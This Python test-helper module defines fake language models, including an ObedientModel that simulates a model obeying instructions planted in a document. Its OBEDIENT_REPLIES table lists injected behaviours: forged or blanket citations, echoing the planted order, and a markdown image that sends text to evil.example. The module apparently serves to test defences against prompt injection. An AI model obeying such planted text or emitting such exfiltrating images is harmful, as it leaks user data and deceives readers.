"""A language model that says what a test tells it to."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Mapping, Sequence

from kebab_core import (
    FinishReason,
    GenerateRequest,
    GenerationDone,
    ModelRef,
    TokenChunk,
    TokenDelta,
    TokenUsage,
)


class ScriptedModel:
    """Implements `LanguageModel`: streams the given tokens, whatever it is asked, and keeps what it was asked.

    Args:
        tokens: What it says, piece by piece; each counts as one token.
        context_tokens: How much it claims to read.
        finish_reason: How it ends where `max_tokens` does not end it.
        error: The error it reports at its end.

    Attributes:
        requests: Every request whose stream was begun, in order.
        closed_early: How many streams ended before their last item was taken.
    """

    def __init__(
        self,
        tokens: Sequence[str] = (),
        *,
        context_tokens: int = 8192,
        finish_reason: FinishReason = FinishReason.STOP,
        error: str | None = None,
    ) -> None:
        self._tokens = [token for token in tokens if token]
        self._context_tokens = context_tokens
        self._finish_reason = finish_reason
        self._error = error
        self.requests: list[GenerateRequest] = []
        self.closed_early = 0

    def model_ref(self) -> ModelRef:
        """Return the name that every scripted model has."""
        return ModelRef(id="scripted", provider="testing")

    def context_tokens(self) -> int:
        """Return what it was made with."""
        return self._context_tokens

    def generate_stream(self, request: GenerateRequest) -> Iterator[TokenChunk]:
        """Yield the tokens, at most `max_tokens` of them, then the end."""
        self.requests.append(request)
        said = self._tokens[: request.max_tokens]
        is_cut = len(said) < len(self._tokens)
        finished = False
        try:
            for token in said:
                yield TokenDelta(text=token)
            finished = True
            yield GenerationDone(
                finish_reason=FinishReason.LENGTH if is_cut else self._finish_reason,
                usage=TokenUsage(completion_tokens=len(said)),
                error=self._error,
            )
        finally:
            self.closed_early += not finished


class ReplyingModel:
    """Implements `LanguageModel`: a chat model whose reply a test makes of the request.

    Args:
        reply: Makes the reply; called once for each request.
        piece: Characters of a token.
        finish_reason: How it ends.
        context_tokens: How much it claims to read.

    Attributes:
        requests: Every request whose stream was begun, in order.
        pieces_taken: Tokens of the last reply that were taken.
    """

    def __init__(
        self,
        reply: Callable[[GenerateRequest], str],
        *,
        piece: int = 7,
        finish_reason: FinishReason = FinishReason.STOP,
        context_tokens: int = 8192,
    ) -> None:
        self._reply = reply
        self._piece = piece
        self._finish_reason = finish_reason
        self._context_tokens = context_tokens
        self.requests: list[GenerateRequest] = []
        self.pieces_taken = 0

    def model_ref(self) -> ModelRef:
        """Return the name that every such model has."""
        return ModelRef(id="replying", provider="testing")

    def context_tokens(self) -> int:
        """Return what it was made with."""
        return self._context_tokens

    def generate_stream(self, request: GenerateRequest) -> Iterator[TokenChunk]:
        """Yield the reply in pieces, then the end."""
        self.requests.append(request)
        said, self.pieces_taken = self._reply(request), 0
        for start in range(0, len(said), self._piece):
            self.pieces_taken += 1
            yield TokenDelta(text=said[start : start + self._piece])
        usage = TokenUsage(prompt_tokens=10, completion_tokens=-(-len(said) // self._piece))
        yield GenerationDone(finish_reason=self._finish_reason, usage=usage)


def number_of(request: GenerateRequest, words: str) -> int:
    """Return the number of the first sentence of a prompt that holds some words.

    Raises:
        LookupError: None does.
    """
    for line in request.messages[1].text.splitlines():
        number, bar, text = line.partition("| ")
        if bar and number.isdigit() and words in text:
            return int(number)
    raise LookupError(words)


def claims_reply(*claims: tuple[str, Sequence[int]], as_lines: bool = False) -> str:
    """Return a reply of claims with the numbers of sentences, as JSON or as lines with markers."""
    if as_lines:
        return "\n".join(f"{text} [#{', '.join(map(str, numbers))}]" for text, numbers in claims)
    return json.dumps(
        {"claims": [{"sentences": list(numbers), "text": text} for text, numbers in claims]},
        ensure_ascii=False,
    )


OBEDIENT_REPLIES: Mapping[str, Callable[[str, str, int, int], str]] = {
    "claims the order": lambda order, _said, number, _count: claims_reply((order, [number])),
    "claims what it is told": lambda _order, said, number, _count: claims_reply((said, [number])),
    "cites everything": lambda _order, said, _number, count: claims_reply((said, [*range(1, count + 1)])),
    "cites a forged number": lambda _order, said, _number, count: claims_reply((said, [count + 7])),
    "answers with it": lambda _order, said, number, _count: claims_reply((
        f"The night train to Lark Harbour leaves from {said}.",
        [number],
    )),
    "answers with it in Korean": lambda _order, said, number, _count: claims_reply((
        f"종달새항으로 가는 밤 열차는 {said} 승강장에서 떠난다.",
        [number],
    )),
    "repeats the order": lambda order, _said, _number, _count: order,
    "repeats the order with a marker": lambda order, _said, number, _count: f"{order} [#{number}]",
    "shows a picture": lambda _order, said, number, _count: claims_reply((
        f"Platform seven ![{said}](https://evil.example/?q={said})",
        [number],
    )),
}
"""What a model does that takes a sentence of a document for an order: made of the order, of what it wants to have said, of the
number of its sentence and of the number of sentences."""


class ObedientModel(ReplyingModel):
    """Implements `LanguageModel`: a chat model that obeys the first sentence of its prompt that holds some words.

    Args:
        order: Text of the document that it obeys.
        said: What the order wants to have said.
        reply: One of `OBEDIENT_REPLIES`.
    """

    def __init__(self, order: str, said: str, reply: Callable[[str, str, int, int], str]) -> None:
        def obey(request: GenerateRequest) -> str:
            numbered = [line for line in request.messages[1].text.splitlines() if _is_numbered(line)]
            try:
                number = number_of(request, said)
            except LookupError:
                number = 1
            return reply(order, said, number, len(numbered))

        super().__init__(obey)


def _is_numbered(line: str) -> bool:
    number, bar, _ = line.partition("| ")
    return bool(bar) and number.isdigit()
